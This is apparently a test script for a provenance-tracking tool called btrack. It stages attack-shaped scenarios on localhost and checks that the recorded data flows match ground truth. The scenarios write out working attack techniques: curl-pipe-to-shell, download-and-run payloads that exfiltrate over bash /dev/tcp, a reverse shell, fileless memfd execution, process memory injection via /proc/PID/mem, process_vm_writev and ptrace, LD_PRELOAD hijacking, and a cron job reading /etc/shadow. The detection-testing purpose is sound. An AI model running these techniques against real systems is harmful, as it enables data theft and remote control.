#!/bin/sh
# workloads-attack.sh - attack-shaped chains of real programs, ground truth
# by construction, under `btrack record`, `btrack record --source ebpf` and
# a real auditd with the shipped rules (the machinery is
# tests/probes/scenario-lib.sh, as for workloads-real.sh):
#   dlrun     python3 -m http.server serves payload.sh (and later a decoy);
#             curl -o fetches it (wget -O, python urllib too), chmod +x, run: it reads secret and sends
#             it to a listener (bash /dev/tcp), which writes loot
#   ldso      a program run through the dynamic loader (ld.so ./prog): the
#             program file is mapped, not exec'd; it copies secret to out
#   preload   LD_PRELOAD of a library compiled on the spot: its constructor
#             writes a mark into the victim's (cat's) output
#   gccdrop   gcc compiles and links a dropped source; the program runs
#   inplace-ed  sed -i -f script, perl -pi -e reading a secret, python
#             fileinput inplace; a shell holds the old file open and writes
#             a decoy into it after the edit (the old inode, no name)
#   sortself  sort -o f f (reads f, then truncates and writes it)
#   tarcmd    tar -x --to-command
#   reasm     split a secret in parts, cat them back together, base64 of
#             it dropped and decoded
#   revshell  bash <&3 >&3 on /dev/tcp: a reverse shell runs the commands an attacker
#             (a listener reading cmds) sends, its output goes back
#   udpx      a secret sent in a UDP datagram to a local receiver
#   stage     tar -cz | base64 | bash -c 'cat > /dev/tcp/...': a directory
#             staged and sent through a pipeline to a listener
#   fileless  python fetches an ELF into a memfd and execs /proc/self/fd/N
#   curlsh    curl URL | sh; python exec() of code fetched with urllib
#   procmem   process injection: a secret written into another process's
#             memory through /proc/PID/mem; that process writes it out
#   vmwrite   the same through process_vm_writev
#   ptpoke    the same through ptrace (attach, POKEDATA, detach)
#   vmread    a thief reads a secret out of a victim's memory
#             (process_vm_readv) and writes it out
#   ptattach  a tracer attaches to a process that holds a secret, stops
#             and resumes it, and writes a file: nothing flowed into it
#   spool     cp of a crontab-like file into a spool directory
set -eu
top=${BTRACK_TOP:?}
BT=${BTRACK:?}
B=${B:-build}
T=$(mktemp -d /tmp/bt-wattack.XXXXXX)
[ -n "${KEEP:-}" ] && echo "keeping $T"
trap '[ -n "${KEEP:-}" ] || rm -rf "$T"' EXIT
command -v python3 >/dev/null 2>&1 || { echo "no python3"; exit 77; }
for t in cc curl wget bash perl sed sort tar split base64 ld.so; do
	[ $t = ld.so ] && continue
	command -v $t >/dev/null 2>&1 || { echo "no $t"; exit 77; }
done
LDSO=$(ls /lib64/ld-linux-*.so.* /lib/ld-linux-*.so.* 2>/dev/null | head -n 1)
[ -n "$LDSO" ] || { echo "no dynamic loader found"; exit 77; }
[ -n "${WORK_SOURCES:-}" ] && SCEN_SOURCES=$WORK_SOURCES
# ports of the web server and of the exfil listener (SO_REUSEADDR both)
P1=$((20000 + $$ % 20000))
P2=$((P1 + 1))
P3=$((P1 + 2))
P4=$((P1 + 3))
P5=$((P1 + 4))
P6=$((P1 + 5))
P7=$((P1 + 6))

SCENARIOS="
dlrun	python3 -m http.server --bind 127.0.0.1 --directory srv $P1 > /dev/null 2>&1 & s=\$!; python3 ../listen.py $P2 & l=\$!; while [ ! -e ready ]; do sleep 0.05; done; until curl -s -o drop http://127.0.0.1:$P1/payload.sh; do sleep 0.1; done; chmod +x drop; ./drop $P2; wait \$l; wget -q -O drop2 http://127.0.0.1:$P1/payload.sh; python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(sys.argv[1], \"drop3\")' http://127.0.0.1:$P1/payload.sh; curl -s -o page http://127.0.0.1:$P1/decoy2; kill \$s; wait \$s || true; cat decoy > /dev/null
ldso	$LDSO ./prog secret out; cat decoy > /dev/null
preload	cc -shared -fPIC -o evil.so evil.c; cat decoy > /dev/null; LD_PRELOAD=./evil.so cat in > out
gccdrop	cp incoming/dropped.c d.c; cc -o d d.c; ./d; cat decoy > /dev/null
inplace-ed	exec 3>> c3; sed -i -f edit.sed c1; perl -pi -e 'BEGIN { open F, \"secret2\"; \$s = <F>; chomp \$s } s/KEY/\$s/' c2; python3 -c 'import fileinput; [print(l.replace(\"KEY\", open(\"secret3\").read().strip())) for l in fileinput.input(\"c3\", inplace=True)]'; cat decoy >&3; exec 3>&-
sortself	cat secret > f; cat decoy > /dev/null; sort -o f f
tarcmd	tar -xf in.tar --to-command='cat > \"\$(basename \$TAR_FILENAME).out\"'; cat decoy > /dev/null
reasm	split -b 8 secret part.; cat part.* > whole; base64 whole > blob; cat decoy > /dev/null; base64 -d blob > dec
revshell	python3 ../attacker.py $P3 & a=\$!; while [ ! -e ready ]; do sleep 0.05; done; bash -c 'exec 3<>/dev/tcp/127.0.0.1/$P3; exec bash <&3 >&3 3>&-'; wait \$a; cat decoy > /dev/null
udpx	python3 ../udprecv.py $P4 & u=\$!; while [ ! -e ready ]; do sleep 0.05; done; python3 -c 'import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(open(\"secret\", \"rb\").read(), (\"127.0.0.1\", int(sys.argv[1])))' $P4; wait \$u; cat decoy > /dev/null
stage	python3 ../listen.py $P5 & l=\$!; while [ ! -e ready ]; do sleep 0.05; done; tar -cz data | base64 | bash -c 'cat > /dev/tcp/127.0.0.1/$P5'; wait \$l; cat decoy > /dev/null
fileless	python3 -m http.server --bind 127.0.0.1 --directory srv $P6 > /dev/null 2>&1 & s=\$!; python3 ../fileless.py http://127.0.0.1:$P6/p.elf; kill \$s; wait \$s || true; cat decoy > /dev/null
curlsh	python3 -m http.server --bind 127.0.0.1 --directory srv $P7 > /dev/null 2>&1 & s=\$!; until curl -s http://127.0.0.1:$P7/inst.sh > /dev/null; do sleep 0.1; done; curl -s http://127.0.0.1:$P7/inst.sh | sh; python3 -c 'import sys, urllib.request; exec(urllib.request.urlopen(sys.argv[1]).read())' http://127.0.0.1:$P7/code.py; kill \$s; wait \$s || true; cat decoy > /dev/null
procmem	python3 ../victim.py & v=\$!; while [ ! -e addr ]; do sleep 0.05; done; python3 ../inject.py \$v; wait \$v; cat decoy > /dev/null
vmwrite	python3 ../victim.py & v=\$!; while [ ! -e addr ]; do sleep 0.05; done; python3 ../memtool.py vmwrite \$v; wait \$v; cat decoy > /dev/null
ptpoke	python3 ../victim.py & v=\$!; while [ ! -e addr ]; do sleep 0.05; done; python3 ../memtool.py poke \$v; wait \$v; cat decoy > /dev/null
vmread	python3 ../holder.py & v=\$!; while [ ! -e held ]; do sleep 0.05; done; python3 ../memtool.py vmread \$v; wait \$v; cat decoy > /dev/null
ptattach	python3 ../holder.py & v=\$!; while [ ! -e held ]; do sleep 0.05; done; python3 ../memtool.py attach \$v; wait \$v; cat decoy > /dev/null
spool	mkdir -p spool/crontabs; cp job spool/crontabs/root; cat decoy > /dev/null
"

CHECKS='
dlrun	back	file:@/loot	none	reaches	file:@/secret	file:@/drop	file:@/srv/payload.sh
dlrun	back	file:@/loot	none	lacks	file:@/decoy	file:@/srv/decoy2
dlrun	back	file:@/drop	none	reaches	file:@/srv/payload.sh	process:/curl
dlrun	back	file:@/drop	none	lacks	file:@/srv/decoy2	file:@/secret
dlrun	back	file:@/drop	default	reaches	file:@/srv/payload.sh
dlrun	back	file:@/page	none	reaches	file:@/srv/decoy2
dlrun	fwd	file:@/secret	none	reaches	endpoint:127.0.0.1:PORT2	file:@/loot
dlrun	fwd	file:@/secret	none	lacks	file:@/drop	file:@/page
dlrun	fwd	file:@/srv/payload.sh	none	reaches	file:@/drop	file:@/loot
dlrun	back	endpoint:127.0.0.1:PORT2	none	reaches	file:@/secret	file:@/srv/payload.sh
ldso	back	file:@/out	none	reaches	file:@/secret	file:@/prog
ldso	back	file:@/out	none	lacks	file:@/decoy
ldso	fwd	file:@/prog	none	reaches	file:@/out
preload	back	file:@/out	none	reaches	file:@/in	file:@/evil.so	file:@/evil.c
preload	back	file:@/out	default	reaches	file:@/evil.so
preload	back	file:@/out	none	lacks	file:@/decoy
preload	fwd	file:@/evil.c	none	reaches	file:@/out
gccdrop	back	file:@/mark	none	reaches	file:@/d	file:@/d.c	file:@/incoming/dropped.c
gccdrop	back	file:@/mark	none	lacks	file:@/decoy
gccdrop	fwd	file:@/incoming/dropped.c	none	reaches	file:@/mark
inplace-ed	back	file:@/c1	none	reaches	file:@/edit.sed
inplace-ed	back	file:@/c2	none	reaches	file:@/secret2
inplace-ed	back	file:@/c3	none	reaches	file:@/secret3
inplace-ed	back	file:@/c3	none	lacks	file:@/decoy
inplace-ed	fwd	file:@/secret2	none	reaches	file:@/c2
inplace-ed	fwd	file:@/secret2	none	lacks	file:@/c1	file:@/c3
sortself	back	file:@/f	none	reaches	file:@/secret
sortself	back	file:@/f	none	lacks	file:@/decoy
sortself	fwd	file:@/secret	none	reaches	file:@/f
tarcmd	back	file:@/s.out	none	reaches	file:@/in.tar
tarcmd	back	file:@/s.out	none	lacks	file:@/decoy
tarcmd	fwd	file:@/in.tar	none	reaches	file:@/s.out
reasm	back	file:@/dec	none	reaches	file:@/secret	file:@/whole	file:@/blob
reasm	back	file:@/dec	none	lacks	file:@/decoy
reasm	fwd	file:@/secret	none	reaches	file:@/dec
dlrun	back	file:@/drop2	none	reaches	file:@/srv/payload.sh	process:/wget
dlrun	back	file:@/drop3	none	reaches	file:@/srv/payload.sh
dlrun	back	file:@/drop3	none	lacks	file:@/secret	file:@/srv/decoy2
revshell	back	file:@/marker	none	reaches	file:@/cmds	process:/bash
revshell	back	file:@/marker	none	lacks	file:@/decoy	file:@/secret
revshell	back	file:@/stolen	none	reaches	file:@/secret	file:@/cmds
revshell	fwd	file:@/cmds	none	reaches	file:@/marker	file:@/stolen
revshell	back	file:@/reply	none	reaches	file:@/secret
udpx	back	file:@/uloot	none	reaches	file:@/secret
udpx	back	file:@/uloot	none	lacks	file:@/decoy
udpx	fwd	file:@/secret	none	reaches	file:@/uloot
stage	back	file:@/loot	none	reaches	file:@/data/secret
stage	back	file:@/loot	none	lacks	file:@/decoy
stage	fwd	file:@/data/secret	none	reaches	file:@/loot
fileless	back	file:@/out	none	reaches	file:@/secret	file:@/srv/p.elf
fileless	back	file:@/out	none	lacks	file:@/decoy
fileless	fwd	file:@/srv/p.elf	none	reaches	file:@/out
curlsh	back	file:@/mark	none	reaches	file:@/srv/inst.sh
curlsh	back	file:@/mark	none	lacks	file:@/decoy	file:@/srv/code.py	file:@/secret
curlsh	back	file:@/pymark	none	reaches	file:@/srv/code.py
curlsh	fwd	file:@/srv/inst.sh	none	reaches	file:@/mark	file:@/stolen
procmem	back	file:@/vout	none	reaches	file:@/secret
procmem	back	file:@/vout	none	lacks	file:@/decoy
procmem	fwd	file:@/secret	none	reaches	file:@/vout
curlsh	back	file:@/stolen	none	reaches	file:@/secret	file:@/srv/inst.sh
spool	back	file:@/spool/crontabs/root	none	reaches	file:@/job
spool	back	file:@/spool/crontabs/root	none	lacks	file:@/decoy
vmwrite	back	file:@/vout	none	reaches	file:@/secret
vmwrite	back	file:@/vout	none	lacks	file:@/decoy
vmwrite	fwd	file:@/secret	none	reaches	file:@/vout
ptpoke	back	file:@/vout	none	reaches	file:@/secret
ptpoke	back	file:@/vout	none	lacks	file:@/decoy
ptpoke	fwd	file:@/secret	none	reaches	file:@/vout
vmread	back	file:@/loot	none	reaches	file:@/secret
vmread	back	file:@/loot	none	lacks	file:@/decoy
vmread	fwd	file:@/secret	none	reaches	file:@/loot
ptattach	back	file:@/tout	none	lacks	file:@/secret
ptattach	fwd	file:@/secret	none	lacks	file:@/tout
vmwrite	back	file:@/vout	default	reaches	file:@/secret
ptpoke	back	file:@/vout	default	reaches	file:@/secret
'
CHECKS=$(echo "$CHECKS" | sed "s/PORT2/$P2/g")

DESIGN='
record:ptpoke:back#66  under btrack record every process is the recorder'"'"'s tracee, and a process has one tracer: the injector'"'"'s PTRACE_ATTACH of another fails (EPERM), so no injection happens to be recorded (a POKEDATA of a process outside the recording would be recorded)
record:ptpoke:fwd#68  no injection under btrack record (record:ptpoke:back#66)
record:ptpoke:back#75  no injection under btrack record (record:ptpoke:back#66)
auditd:vmread:back#69  the shipped audit rules leave process_vm_readv out (strace, debuggers and profilers call it for every string they read: it floods the audit backlog), so a read of another process'"'"'s memory through it is not seen
auditd:vmread:fwd#71  process_vm_readv is not audited (auditd:vmread:back#69)
auditd:inplace-ed:fwd#26  audit logs no write(2): every process holding a descriptor open for writing may have written through it until it lets go; perl inherited fd 3 of the shell (exec 3>> c3) (the old c3, renamed c3.bak by python) and is taken as a writer of it, which python then reads
'

KNOWN='
'

prepare() {
	for w in curlsh procmem vmwrite ptpoke vmread ptattach stage fileless revshell udpx dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
		echo "the $w secret $$" >"$1/$w/secret"
		echo "decoy $$" >"$1/$w/decoy"
	done
	w=$1/dlrun
	mkdir -p "$w/srv"
	printf '#!/bin/bash\ncat secret > /dev/tcp/127.0.0.1/$1\n' >"$w/srv/payload.sh"
	echo "served decoy $$" >"$w/srv/decoy2"
	# the exfil listener: one connection, what it receives into loot
	cat >"$1/listen.py" <<'PY'
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(1)
open("ready", "w").close()
s.settimeout(10)
c, _ = s.accept()
d = b""
while True:
    b = c.recv(4096)
    if not b:
        break
    d += b
with open("loot", "wb") as f:
    f.write(d)
PY
	# the attacker of a reverse shell: sends its commands, keeps what the
	# shell sends back
	printf 'echo owned > marker\ncat secret > stolen\ncat stolen\n' >"$1/revshell/cmds"
	cat >"$1/attacker.py" <<'PY'
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(1)
open("ready", "w").close()
s.settimeout(10)
c, _ = s.accept()
c.sendall(open("cmds", "rb").read())
c.shutdown(socket.SHUT_WR)
d = b""
while True:
    b = c.recv(4096)
    if not b:
        break
    d += b
with open("reply", "wb") as f:
    f.write(d)
PY
	cat >"$1/udprecv.py" <<'PY'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
open("ready", "w").close()
s.settimeout(10)
d, _ = s.recvfrom(4096)
with open("uloot", "wb") as f:
    f.write(d)
PY
	cat >"$1/prog.c" <<'C'
#include <stdio.h>
int main(int argc, char **argv)
{
	char b[256];
	FILE *i = fopen(argv[1], "r"), *o = fopen(argv[2], "w");
	size_t n = fread(b, 1, sizeof(b), i);
	fwrite(b, 1, n, o);
	return fclose(o) != 0;
}
C
	cc -o "$1/ldso/prog" "$1/prog.c"
	printf 'b\na\n' >"$1/preload/in"
	# the injected library writes its mark into the victim's stdout
	mkdir -p "$1/curlsh/srv"
	printf 'cat secret > stolen\necho installed > mark\n' >"$1/curlsh/srv/inst.sh"
	printf 'open("pymark", "w").write("ran")\n' >"$1/curlsh/srv/code.py"
	# process injection: inject.py writes the secret into the victim's
	# memory through /proc/PID/mem; the victim writes what it holds
	cat >"$1/victim.py" <<'PY'
import ctypes, os, time
b = ctypes.create_string_buffer(b"\0" * 64)
open("addr", "w").write(str(ctypes.addressof(b)))
t = time.time() + 10
while b.value == b"" and time.time() < t and not os.path.exists("gaveup"):
    time.sleep(0.02)
open("vout", "wb").write(b.value)
PY
	# holds a secret in its memory until told it is done; its buffer's
	# address is written before it reads the secret (so the address
	# carries none of it), and "held" made (no data) once it has it
	cat >"$1/holder.py" <<'PY'
import ctypes, os, time
b = ctypes.create_string_buffer(64)
open("addr", "w").write(str(ctypes.addressof(b)))
b.value = open("secret", "rb").read().strip()
open("held", "w").close()
t = time.time() + 10
while not os.path.exists("done") and time.time() < t:
    time.sleep(0.02)
PY
	# vmwrite, poke: the secret into the victim's buffer (process_vm_writev,
	# ptrace POKEDATA); vmread: the holder's buffer out (process_vm_readv)
	# into loot; attach: a tracer that stops and resumes the holder, and
	# writes tout.  A ptrace that fails (a tracee of btrack record has its
	# tracer) gives up: the victim stops waiting.
	cat >"$1/memtool.py" <<'PY'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p,
                        ctypes.c_void_p]
how, pid = sys.argv[1], int(sys.argv[2])
# the tracer of "attach" reads nothing from the holder
a = int(open("addr").read()) if how != "attach" else 0
def attach():
    if libc.ptrace(16, pid, None, None) != 0:   # PTRACE_ATTACH
        print("ptrace attach:", os.strerror(ctypes.get_errno()))
        if how == "attach":
            open("tout", "w").write("not traced\n")
        open("gaveup", "w").close()
        open("done", "w").close()
        sys.exit(0)
    os.waitpid(pid, 0)
def detach():
    libc.ptrace(17, pid, None, None)            # PTRACE_DETACH
if how in ("vmwrite", "vmread"):
    n = 64
    d = open("secret", "rb").read().strip() if how == "vmwrite" else b""
    buf = ctypes.create_string_buffer(d, n)
    l = iovec(ctypes.cast(buf, ctypes.c_void_p), len(d) or n)
    r = iovec(a, len(d) or n)
    f = libc.process_vm_writev if how == "vmwrite" else libc.process_vm_readv
    f.restype = ctypes.c_ssize_t
    if f(pid, ctypes.byref(l), 1, ctypes.byref(r), 1, 0) < 0:
        sys.exit("%s: %s" % (how, os.strerror(ctypes.get_errno())))
    if how == "vmread":
        open("loot", "wb").write(buf.value)
        open("done", "w").close()
elif how == "poke":
    d = open("secret", "rb").read().strip()
    attach()
    for i in range(0, len(d), 8):
        w = int.from_bytes(d[i:i + 8].ljust(8, b"\0"), "little")
        if libc.ptrace(5, pid, a + i, ctypes.c_void_p(w)) != 0:  # POKEDATA
            sys.exit("poke: %s" % os.strerror(ctypes.get_errno()))
    detach()
elif how == "attach":
    attach()
    detach()
    open("tout", "w").write("traced\n")
    open("done", "w").close()
PY
	cat >"$1/inject.py" <<'PY'
import sys
d = open("secret", "rb").read().strip()
a = int(open("addr").read())
with open("/proc/%s/mem" % sys.argv[1], "r+b", buffering=0) as m:
    m.seek(a)
    m.write(d)
PY
	mkdir -p "$1/stage/data" "$1/fileless/srv"
	echo "the staged secret $$" >"$1/stage/data/secret"
	cc -o "$1/fileless/srv/p.elf" "$1/prog.c"
	# fileless: the payload downloaded into a memfd and run from it
	cat >"$1/fileless.py" <<'PY'
import os, sys, time, urllib.request
for i in range(100):
    try:
        d = urllib.request.urlopen(sys.argv[1]).read()
        break
    except OSError:
        time.sleep(0.1)
fd = os.memfd_create("x", 0)
os.write(fd, d)
os.execv("/proc/self/fd/%d" % fd, ["x", "secret", "out"])
PY
	cat >"$1/preload/evil.c" <<'C'
#include <unistd.h>
__attribute__((constructor)) static void evil(void)
{
	(void)!write(1, "pwned\n", 6);
}
C
	mkdir -p "$1/gccdrop/incoming"
	cat >"$1/gccdrop/incoming/dropped.c" <<'C'
#include <stdio.h>
int main(void)
{
	FILE *o = fopen("mark", "w");
	fputs("dropped program ran\n", o);
	return fclose(o) != 0;
}
C
	w=$1/inplace-ed
	echo "x = old" >"$w/c1"
	echo "y = KEY" >"$w/c2"
	echo "z = KEY" >"$w/c3"
	echo "s/old/new/" >"$w/edit.sed"
	echo "the second secret $$" >"$w/secret2"
	echo "the third secret $$" >"$w/secret3"
	mkdir -p "$1/tarcmd/t"
	cp "$1/tarcmd/secret" "$1/tarcmd/t/s"
	tar -cf "$1/tarcmd/in.tar" -C "$1/tarcmd/t" s
	rm -rf "$1/tarcmd/t"
	echo "* * * * * root cat /etc/shadow $$" >"$1/spool/job"
}

SCEN_DEFAULT_SOURCES="record ebpf auditd"
. "$top/tests/probes/scenario-lib.sh"
